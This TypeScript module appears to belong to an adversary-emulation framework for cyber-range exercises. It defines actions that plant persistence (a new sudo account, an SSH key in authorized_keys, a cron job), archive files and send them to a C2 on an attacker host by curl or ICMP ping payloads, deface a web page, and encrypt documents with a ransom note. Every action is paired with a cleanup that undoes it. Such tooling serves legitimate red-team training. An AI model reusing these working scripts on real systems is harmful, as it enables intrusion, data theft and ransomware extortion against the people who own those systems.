/** Persistence, collection + exfiltration, defacement and recoverable ransomware. */
import { z } from 'zod';
import { defineAction, type Cleanup, type CleanupContext } from './types.js';
import { c2Entries, ensureC2 } from './implant.js';
import { classifyCurl, digest, q, sha256, writeFileScript } from './util.js';

export const persistAction = defineAction({
  kind: 'persist',
  summary: 'leave persistence on this node: a local account, an SSH key in authorized_keys, or a cron job',
  params: z.discriminatedUnion('mechanism', [
    z
      .object({
        mechanism: z.literal('account'),
        user: z.string().regex(/^[a-z_][a-z0-9_-]{0,30}$/),
        password: z.string().min(1),
        sudo: z.boolean().default(false),
      })
      .strict(),
    z.object({ mechanism: z.literal('ssh-key'), user: z.string().min(1), publicKey: z.string().min(1) }).strict(),
    z
      .object({
        mechanism: z.literal('cron'),
        user: z.string().min(1),
        schedule: z.string().default('*/5 * * * *'),
        command: z.string().min(1),
      })
      .strict(),
  ]),
  cleanupOf: persistCleanup,
  async run(ctx, p) {
    const x = persistScripts(p);
    if (!x) return { outcome: 'failed', reason: 'publicKey is not an OpenSSH public key line', evidence: '' };
    const r = await ctx.range.sh(ctx.node, x.script);
    const cleanup = persistCleanup(ctx, p);
    return {
      outcome: r.exitCode === 0 ? 'succeeded' : 'failed',
      ...(r.exitCode === 0 ? {} : { reason: `exit ${r.exitCode}: ${r.stderr.trim()}` }),
      evidence: digest(`persistence on ${ctx.node}: ${x.what}`, r.stdout),
      output: r.stdout,
      ...(cleanup ? { cleanup } : {}),
    };
  },
});

function persistCleanup(ctx: CleanupContext, p: PersistParams): Cleanup | undefined {
  const x = persistScripts(p);
  return (
    x && { label: `remove ${x.what} on ${ctx.node}`, run: async () => void (await ctx.range.sh(ctx.node, x.undo)) }
  );
}

type PersistParams =
  | { mechanism: 'account'; user: string; password: string; sudo: boolean }
  | { mechanism: 'ssh-key'; user: string; publicKey: string }
  | { mechanism: 'cron'; user: string; schedule: string; command: string };

/** The script that leaves the persistence, the one that removes it, and what it is in words. */
function persistScripts(p: PersistParams): { script: string; undo: string; what: string } | undefined {
  if (p.mechanism === 'account')
    return {
      script: `useradd -m -s /bin/bash ${q(p.user)} && printf '%s:%s\\n' ${q(p.user)} ${q(p.password)} | chpasswd${p.sudo ? ` && usermod -aG sudo ${q(p.user)}` : ''} && id ${q(p.user)}`,
      undo: `userdel -r ${q(p.user)} 2>/dev/null || userdel ${q(p.user)}`,
      what: `account ${p.user}${p.sudo ? ' (sudo)' : ''}`,
    };
  if (p.mechanism === 'ssh-key') {
    if (!/^(ssh|ecdsa)-[a-z0-9-]+ [A-Za-z0-9+/=]+/.test(p.publicKey)) return undefined;
    const home = `$(getent passwd ${q(p.user)} | cut -d: -f6)`;
    const line = p.publicKey.trim();
    return {
      script: `h=${home} && [ -n "$h" ] && mkdir -p "$h/.ssh" && printf '%s\\n' ${q(line)} >> "$h/.ssh/authorized_keys" && chown -R ${q(p.user)} "$h/.ssh" && chmod 700 "$h/.ssh" && chmod 600 "$h/.ssh/authorized_keys" && echo "$h/.ssh/authorized_keys"`,
      undo: `h=${home} && f="$h/.ssh/authorized_keys" && [ -f "$f" ] && grep -vxF ${q(line)} "$f" > "$f.enshu" ; cat "$f.enshu" > "$f" && rm -f "$f.enshu"`,
      what: `SSH key for ${p.user}`,
    };
  }
  const line = `${p.schedule} ${p.command}`;
  return {
    script: `(crontab -u ${q(p.user)} -l 2>/dev/null; printf '%s\\n' ${q(line)}) | crontab -u ${q(p.user)} - && crontab -u ${q(p.user)} -l`,
    undo: `crontab -u ${q(p.user)} -l 2>/dev/null | grep -vxF ${q(line)} | crontab -u ${q(p.user)} -`,
    what: `cron job for ${p.user}: ${line}`,
  };
}

export const exfiltrateAction = defineAction({
  kind: 'exfiltrate',
  summary:
    'collect files on this node into an archive and send it to the C2 on the attacker host (HTTP, optionally through the proxy, or ICMP echo payloads)',
  params: z
    .object({
      paths: z.array(z.string().min(1)).min(1),
      c2: z.string().default('attacker'),
      /** C2 port; by default the port of this node's implant */
      port: z.number().int().optional(),
      proxy: z.string().optional(),
      channel: z.enum(['http', 'icmp']).default('http'),
      name: z
        .string()
        .regex(/^[A-Za-z0-9._-]+$/)
        .default('loot'),
      user: z.string().optional(),
      timeout: z.number().min(1).max(600).default(60),
    })
    .strict(),
  async run(ctx, p) {
    const c2Address = ctx.range.address(p.c2);
    const staging = `/tmp/.enshu-${ctx.step}.tgz`;
    const collect = await ctx.range.sh(
      ctx.node,
      `tar czf ${staging} ${p.paths.map(q).join(' ')} 2>/tmp/.enshu-${ctx.step}.err; [ -s ${staging} ] || { cat /tmp/.enshu-${ctx.step}.err; exit 1; }; tar tzf ${staging} | head -n 20; sha256sum ${staging} | cut -c1-64; wc -c < ${staging}`,
      { ...(p.user ? { user: p.user } : {}) },
    );
    const cleanLocal = async () => void (await ctx.range.sh(ctx.node, `rm -f ${staging} /tmp/.enshu-${ctx.step}.err`));
    if (collect.exitCode !== 0) {
      await cleanLocal();
      return {
        outcome: 'failed',
        reason: `nothing collected from ${p.paths.join(', ')}: ${collect.stdout.trim() || collect.stderr.trim()}`,
        evidence: '',
      };
    }
    const lines = collect.stdout.trim().split('\n');
    const size = lines.pop()!.trim();
    const hash = lines.pop()!.trim();
    const files = lines.filter(Boolean);
    let outcome: 'succeeded' | 'blocked' | 'failed' = 'succeeded';
    let reason: string | undefined;
    let how: string;
    if (p.channel === 'http') {
      const port = p.port ?? ctx.shared.implants.get(ctx.node)?.port ?? 8080;
      await ensureC2(ctx.range, ctx.shared, p.c2, port);
      let proxy = '--noproxy "*"';
      if (p.proxy) {
        const [host, pport = '3128'] = p.proxy.split(':');
        proxy = `-x http://${ctx.range.address(host!)}:${pport}`;
      }
      const id = `x-${ctx.range.team}-${p.name}`;
      ctx.shared.implantIds.add(id);
      const r = await ctx.range.sh(
        ctx.node,
        `{ echo "loot ${p.name}"; base64 -w0 ${staging}; } | curl -sS -f -m ${p.timeout} ${proxy} -A "Mozilla/5.0 (Windows NT 10.0) sync-agent" --data-binary @- http://${c2Address}:${port}/beacon/${id}`,
        { timeoutMs: (p.timeout + 5) * 1000 },
      );
      how = `HTTP POST to ${c2Address}:${port}${p.proxy ? ` via ${p.proxy}` : ''}`;
      if (r.exitCode !== 0) {
        const c = classifyCurl(r, `upload to ${c2Address}:${port}`);
        outcome = c.outcome === 'succeeded' ? 'failed' : c.outcome;
        reason = c.reason;
      } else {
        // the C2 must really hold the same bytes
        const got = (await c2Entries(ctx.range, p.c2, id)).reverse().find((e) => e.body.startsWith(`loot ${p.name}\n`));
        const received = got
          ? sha256(Buffer.from(got.body.slice(`loot ${p.name}\n`.length).trim(), 'base64'))
          : undefined;
        if (received !== hash) {
          outcome = 'failed';
          reason = `the C2 ${got ? `received different bytes (sha256 ${received})` : 'has no record of the upload'}`;
        }
      }
    } else {
      // 16 bytes per echo request, as the pattern iputils ping puts after its timestamp
      const r = await ctx.range.sh(
        ctx.node,
        `od -An -v -tx1 ${staging} | tr -d ' \\n' | fold -w 32 | { i=0; while read -r chunk; do ping -c 1 -W 2 -s 32 -p "$chunk" ${c2Address} >/dev/null || exit 1; i=$((i+1)); done; echo $i; }`,
        { timeoutMs: p.timeout * 1000 },
      );
      how = `${r.stdout.trim() || 0} ICMP echo requests to ${c2Address} carrying the archive in their payload`;
      if (r.exitCode !== 0) {
        outcome = 'blocked';
        reason = `ICMP echo to ${c2Address} got no answer (dropped by a firewall?)`;
      }
    }
    await cleanLocal();
    return {
      outcome,
      ...(reason ? { reason } : {}),
      evidence: `${files.length} file(s), ${size} bytes, archive sha256 ${hash}, from ${ctx.node}: ${how}; files: ${files.slice(0, 8).join(', ')}`,
      output: files.join('\n'),
    };
  },
});

export const defaceAction = defineAction({
  kind: 'deface',
  summary: 'replace a page of the web site on this node (the original is kept and put back on cleanup)',
  params: z
    .object({
      docroot: z.string().default('/var/www/site'),
      page: z.string().default('index.html'),
      html: z.string().min(1),
    })
    .strict(),
  cleanupOf: defaceCleanup,
  async run(ctx, p) {
    const { page, backup } = defacePaths(ctx.step, p);
    const r = await ctx.range.sh(
      ctx.node,
      `[ -f ${q(page)} ] || { echo "no page ${page}"; exit 1; }; mkdir -p ${backup} && { [ -f ${backup}/original ] || cp -p ${q(page)} ${backup}/original; } && sha256sum ${q(page)} | cut -c1-64 && ${writeFileScript(page, p.html)} && sha256sum ${q(page)} | cut -c1-64`,
    );
    const [before, after] = r.stdout.trim().split('\n');
    return {
      outcome: r.exitCode === 0 ? 'succeeded' : 'failed',
      ...(r.exitCode === 0 ? {} : { reason: r.stdout.trim() || r.stderr.trim() }),
      evidence: `defaced ${page} on ${ctx.node}: sha256 ${before} → ${after}`,
      cleanup: defaceCleanup(ctx, p),
    };
  },
});

function defaceCleanup(ctx: CleanupContext, p: { docroot: string; page: string }): Cleanup {
  const { page, backup } = defacePaths(ctx.step, p);
  return {
    label: `restore ${page} on ${ctx.node}`,
    run: async () =>
      void (await ctx.range.sh(
        ctx.node,
        `[ -f ${backup}/original ] && cp -p ${backup}/original ${q(page)}; rm -rf ${backup}; rmdir /var/lib/enshu-attack/deface /var/lib/enshu-attack 2>/dev/null; true`,
      )),
  };
}

/** The defaced page and where the original is kept (per step, so a replay keeps the first original). */
function defacePaths(step: string, p: { docroot: string; page: string }): { page: string; backup: string } {
  return { page: `${p.docroot.replace(/\/$/, '')}/${p.page}`, backup: `/var/lib/enshu-attack/deface/${step}` };
}

export const encryptAction = defineAction({
  kind: 'encrypt',
  summary:
    'ransomware: encrypt documents under a directory with a key the exercise keeps (AES-256-CBC, PBKDF2), leave a note',
  params: z
    .object({
      dir: z.string().min(1),
      /** find(1) -name patterns */
      patterns: z.array(z.string().min(1)).min(1).default(['*']),
      key: z.string().min(16, 'use a key fact of at least 16 characters'),
      suffix: z
        .string()
        .regex(/^\.[A-Za-z0-9]+$/)
        .default('.locked'),
      note: z.string().default('Your files are encrypted.'),
      noteName: z.string().default('README-DECRYPT.txt'),
    })
    .strict(),
  cleanupOf: encryptCleanup,
  async run(ctx, p) {
    const names = p.patterns.map((x) => `-name ${q(x)}`).join(' -o ');
    const script = [
      `cd ${q(p.dir)} || exit 1`,
      `n=0`,
      `for f in $(find . -type f \\( ${names} \\) ! -name '*${p.suffix}' ! -name ${q(p.noteName)} | sort); do ENSHU_K=${q(p.key)} openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ENSHU_K -in "$f" -out "$f${p.suffix}" && rm -f "$f" && n=$((n+1)) && echo "$f"; done`,
      writeFileScript(`${p.dir}/${p.noteName}`, p.note),
      `echo "count=$n"`,
    ].join('\n');
    const r = await ctx.range.sh(ctx.node, script, { timeoutMs: 120_000 });
    const count = Number(/count=(\d+)/.exec(r.stdout)?.[1] ?? 0);
    return {
      outcome: r.exitCode === 0 && count > 0 ? 'succeeded' : 'failed',
      ...(r.exitCode !== 0
        ? { reason: r.stderr.trim() || `exit ${r.exitCode}` }
        : count === 0
          ? { reason: `no file under ${p.dir} matched ${p.patterns.join(' ')}` }
          : {}),
      evidence: digest(
        `encrypted ${count} file(s) under ${p.dir} on ${ctx.node} (*${p.suffix}, note ${p.noteName})`,
        r.stdout,
      ),
      output: r.stdout,
      cleanup: encryptCleanup(ctx, p),
    };
  },
});

/** Decrypts what the step encrypted with the key the exercise keeps, and removes the note. */
function encryptCleanup(
  ctx: CleanupContext,
  p: { dir: string; key: string; suffix: string; noteName: string },
): Cleanup {
  const decrypt = `cd ${q(p.dir)} && for f in $(find . -type f -name '*${p.suffix}'); do ENSHU_K=${q(p.key)} openssl enc -d -aes-256-cbc -pbkdf2 -pass env:ENSHU_K -in "$f" -out "\${f%${p.suffix}}" && rm -f "$f"; done; rm -f ${q(p.noteName)}`;
  return {
    label: `decrypt ${p.dir} on ${ctx.node} with the exercise's key`,
    run: async () => void (await ctx.range.sh(ctx.node, decrypt, { timeoutMs: 120_000 })),
  };
}
